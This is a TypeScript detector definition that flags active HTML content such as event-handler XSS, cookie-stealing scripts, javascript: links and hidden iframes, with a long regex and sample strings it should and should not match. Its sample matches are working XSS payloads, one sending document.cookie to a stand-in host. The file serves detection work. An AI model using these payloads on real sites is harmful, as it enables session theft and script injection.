import { detector } from '../detector.ts';

export default detector({
  name: 'active-content',
  family: 'exfil',
  summary: 'HTML that runs or loads something by itself: event handlers on images, scripts that send cookies, probes for XSS.',
  tier: 'flag',
  severity: 'medium',
  confidence: 0.7,
  pattern: new RegExp(
    [
      '<(?:img|svg|body|video|audio|iframe|object|embed|details|marquee|math|style|link|input|source)\\b[^<>]{0,200}[\\s/"\'](?:onerror|onload|onbegin|ontoggle|onstart|onfocus|onmouseover|onanimationstart|onpageshow) {0,2}= {0,2}["\']?[^<>\\s]{0,60}(?:alert|prompt|confirm|fetch|eval|atob|location|cookie|import|XMLHttpRequest|sendBeacon|src|String\\.fromCharCode)',
      '<script[^<>]{0,100}>[^<]{0,300}(?:document\\.cookie|localStorage|sessionStorage)[^<]{0,300}(?:fetch|location|new Image|XMLHttpRequest|sendBeacon|\\.src)',
      '<script[^<>]{0,100}>[^<]{0,300}(?:fetch|location(?:\\.href)? {0,2}=|new Image|XMLHttpRequest|sendBeacon|\\.src {0,2}=)[^<]{0,300}(?:document\\.cookie|localStorage|sessionStorage)',
      '["\'>]{1,2} {0,2}<script[^<>]{0,60}>\\s{0,4}(?:alert|prompt|confirm|eval)\\(',
      '<iframe\\b[^<>]{0,120}\\bsrc(?:doc)? {0,2}= {0,2}["\']?(?:javascript:|data:text/html|<script|&lt;script)',
      '<(?:iframe|embed|object)\\b[^<>]{0,120}(?:(?:width|height)=["\']?[01]["\' ]|display: ?none|visibility: ?hidden)[^<>]{0,120}\\bsrc=["\']?https?:',
      '<meta\\b[^<>]{0,60}http-equiv=["\']?refresh["\']?[^<>]{0,60}url=["\']?(?:https?:|data:|javascript:)',
      '<a\\b[^<>]{0,200}\\bhref {0,2}= {0,2}["\']?(?:javascript:[^v"\'\\s]|vbscript:|data:text/html)',
      '<form\\b[^<>]{0,200}\\baction=["\']?https?:[^<>]{1,200}>[^\\n]{0,400}type=["\']?password',
    ].join('|'),
    'i',
  ),
  lanes: ['output', 'tool-arguments', 'tool-result', 'document', 'other'],
  references: ['owasp-llm:LLM05:2026', 'cwe:79'],
  finds: [
    '<img src=x onerror=alert(1)>',
    '<svg/onload="fetch(`//x.example.net`)">',
    '<script>fetch("https://x.example.net/?" + document.cookie)</script>',
    '<iframe src="javascript:run()">',
    '<a href="javascript:alert(1)">win</a>',
    '<meta http-equiv="refresh" content="0;url=https://x.example.net">',
    'name: "><script>alert(1)</script>',
  ],
  ignores: [
    '<script src="https://cdn.example.com/app.js"></script>',
    '<img src="cat.png" onload="show()">',
    '<body onload="init()">',
    '<a href="javascript:void(0)">menu</a>',
    '<iframe src="https://player.example.com/v/9" width="640" height="360"></iframe>',
    'Use the onerror handler of an image.',
    '<script>console.log("hello")</script>',
  ],
});
